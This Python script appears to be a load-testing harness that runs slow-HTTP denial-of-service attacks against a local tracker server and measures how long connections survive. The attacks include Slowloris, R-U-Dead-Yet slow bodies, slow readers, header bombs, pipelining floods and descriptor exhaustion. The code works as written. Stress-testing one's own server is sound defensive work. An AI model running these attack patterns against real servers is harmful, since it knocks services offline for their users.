"""The attackers: thousands of connections in one process, driven by a clock.

usage: attackers.py KIND PORT CONNECTIONS SECONDS POSTBACK-KEY
"""

import errno
import heapq
import json
import select
import socket
import sys
import time

HEAD = b"GET /c/summer?subid=slow HTTP/1.1\r\nHost: a\r\n"


class Kind:
    """What a connection sends first, what then every `pause` seconds, and whether it reads.

    `takes` is how many bytes one reads every `pause` seconds that doesn't otherwise. One that
    `may_stay` gives no reason to be closed.
    """

    first, then, pause, reads, receive_buffer, takes = b"", b"", 4.0, True, None, 0
    may_stay = False

    def __init__(self, key):
        self.key = key


class SlowHeaders(Kind):
    """A header line every few seconds, and no end (Slowloris)."""

    first, then = HEAD, b"X-a: b\r\n"


class SlowBodies(Kind):
    """A postback whose body comes byte by byte (R-U-Dead-Yet)."""

    then = b"a"

    @property
    def first(self):
        return (
            f"POST /postback/{self.key} HTTP/1.1\r\nHost: a\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 65536\r\n\r\n"
        ).encode()


class SlowReaders(Kind):
    """Many requests at once, whose answers nobody takes."""

    first = b"GET /t.js HTTP/1.1\r\nHost: a\r\n\r\n" * 200
    then, reads, receive_buffer = b"GET /t.js HTTP/1.1\r\nHost: a\r\n\r\n", False, 1024


class TrickleReaders(SlowReaders):
    """As many, interleaved with clicks, which are answered later; now and then a byte is taken."""

    first = (HEAD + b"\r\n" + b"GET /t.js HTTP/1.1\r\nHost: a\r\n\r\n" * 7) * 20
    then, pause, takes = b"", 1.0, 1


class Silent(Kind):
    """Not a byte."""


class Descriptors(Silent):
    """As silent, while the tracker may have 256 descriptors."""


class HeaderBombs(Kind):
    """As large a head as may be, over and over."""

    first = b"GET / HTTP/1.1\r\nHost: a\r\n" + b"X-a: " + b"v" * 33_000 + b"\r\n\r\n"


class Pipelines(Kind):
    """Requests without end over a connection that is read."""

    first = (HEAD + b"\r\n") * 500
    then, pause, may_stay = (HEAD + b"\r\n") * 500, 0.5, True


class Flood(Kind):
    """Connections that are opened and closed at once."""


KINDS = {
    "slow-headers": SlowHeaders, "slow-bodies": SlowBodies, "slow-readers": SlowReaders,
    "trickle-readers": TrickleReaders, "silent": Silent, "descriptors": Descriptors,
    "header-bombs": HeaderBombs, "pipelines": Pipelines, "flood": Flood,
}


class Attack:
    def __init__(self, kind, port, count, seconds):
        self.kind, self.port, self.count = kind, port, count
        self.end = time.monotonic() + seconds
        self.poll = select.epoll()
        self.open = {}  # by descriptor: socket and when it was opened
        self.due = []
        self.opened, self.longest = 0, 0.0

    def connect(self):
        client = socket.socket()
        if self.kind.receive_buffer:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.kind.receive_buffer)
        client.setblocking(False)
        # Many addresses, or the ports of one would run out.
        client.bind((f"127.0.{self.opened // 20_000 % 200}.{1 + self.opened % 200}", 0))
        error = client.connect_ex(("127.0.0.1", self.port))
        if error not in (0, errno.EINPROGRESS):
            client.close()
            return
        self.opened += 1
        now = time.monotonic()
        self.open[client.fileno()] = (client, now)
        self.poll.register(client.fileno(), select.EPOLLIN if self.kind.reads else 0)
        heapq.heappush(self.due, (now + 0.05, client.fileno(), now, True))

    def close(self, descriptor, by_server):
        client, begun = self.open.pop(descriptor)
        if by_server:
            self.longest = max(self.longest, time.monotonic() - begun)
        client.close()

    def send(self, descriptor, begun, is_first):
        known = self.open.get(descriptor)
        if known is None or known[1] != begun:
            return
        data = self.kind.first if is_first else self.kind.then
        try:
            if data:
                known[0].send(data)
            if self.kind.takes and not is_first and not known[0].recv(self.kind.takes):
                self.close(descriptor, True)
                return
        except BlockingIOError:
            pass
        except OSError:
            self.close(descriptor, True)
            return
        heapq.heappush(
            self.due, (time.monotonic() + self.kind.pause, descriptor, begun, False))

    def longest_open(self):
        """In seconds, also of those that the server has not closed yet."""
        now = time.monotonic()
        return max([self.longest, *(now - begun for _, begun in self.open.values())])

    def run(self):
        flood = isinstance(self.kind, Flood)
        while time.monotonic() < self.end:
            missing = self.count - len(self.open)
            for _ in range(min(500, missing)):
                self.connect()
            for descriptor, event in self.poll.poll(0.02, 2000):
                if descriptor not in self.open:
                    continue
                if event & (select.EPOLLHUP | select.EPOLLERR):
                    self.close(descriptor, True)
                    continue
                try:
                    while True:
                        data = self.open[descriptor][0].recv(65536)
                        if not data:
                            self.close(descriptor, True)
                            break
                except BlockingIOError:
                    pass
                except OSError:
                    self.close(descriptor, True)
            now = time.monotonic()
            if flood:
                for descriptor in [d for d, (_, begun) in self.open.items() if now > begun + 0.05]:
                    self.close(descriptor, False)
            while self.due and self.due[0][0] <= now:
                _, descriptor, begun, is_first = heapq.heappop(self.due)
                self.send(descriptor, begun, is_first)
        return {"opened": self.opened, "longest": round(self.longest_open(), 1)}


if __name__ == "__main__":
    name, port, count, seconds, key = sys.argv[1:]
    attack = Attack(KINDS[name](key), int(port), int(count), float(seconds))
    print(json.dumps(attack.run()))
